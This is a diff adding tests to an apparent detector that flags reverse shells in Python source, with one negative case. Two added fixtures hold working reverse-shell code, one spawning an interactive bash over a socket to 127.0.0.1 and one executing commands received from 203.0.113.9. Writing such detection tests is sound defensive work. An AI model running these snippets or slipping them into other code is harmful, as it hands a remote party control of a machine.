@@ -127,6 +127,39 @@ def test_reverse_shell():
     assert host.value == "10.0.0.1" and "port:4444" in host.tags and at(code, host) == "10.0.0.1"
 
 
+def test_a_reverse_shell_through_a_socket_passed_to_helper_functions():
+    code = ("import socket, subprocess, os\n"
+            "def connect(sock, ip, port):\n    sock.connect((ip, port))\n    return sock\n"
+            "def redirect(sock):\n    os.dup2(sock.fileno(), 0)\n    os.dup2(sock.fileno(), 1)\n"
+            "s = connect(socket.socket(socket.AF_INET, socket.SOCK_STREAM), '127.0.0.1', 5389)\n"
+            "redirect(s)\nsubprocess.call(['/bin/bash', '-i'])\n")
+    ops = of(read(code), "operation")
+    assert [f.value for f in ops] == ["network_send", "execute", "reverse_shell"]
+    assert at(code, ops[-1]) == "sock.connect((ip, port))"
+
+
+def test_running_what_a_socket_sends_is_a_remote_shell():
+    code = ("import socket, subprocess\n"
+            "with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as conn:\n"
+            "    conn.connect(('203.0.113.9', 5389))\n"
+            "    while True:\n"
+            "        data = conn.recv(1024)\n"
+            "        command = data.decode().strip()\n"
+            "        p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)\n"
+            "        conn.sendall(p.stdout.read())\n")
+    ops = of(read(code), "operation")
+    assert ops[-1].value == "reverse_shell" and ops[-1].tags == ("command_channel",)
+    assert at(code, ops[-1]) == "conn.connect(('203.0.113.9', 5389))"
+
+
+def test_a_client_that_runs_a_fixed_command_and_reads_a_socket_is_not_a_shell():
+    code = ("import socket, subprocess\n"
+            "s = socket.create_connection(('example.com', 80))\n"
+            "reply = s.recv(1024)\n"
+            "subprocess.run(['git', 'status'])\n")
+    assert "reverse_shell" not in [f.value for f in of(read(code), "operation")]
+
+
 def test_socket_without_a_shell_is_not_a_reverse_shell():
     facts = read("import socket\ns = socket.create_connection(('example.com', 80))\ns.sendall(b'x')")
     assert [f.value for f in of(facts, "operation")] == ["network_send"]
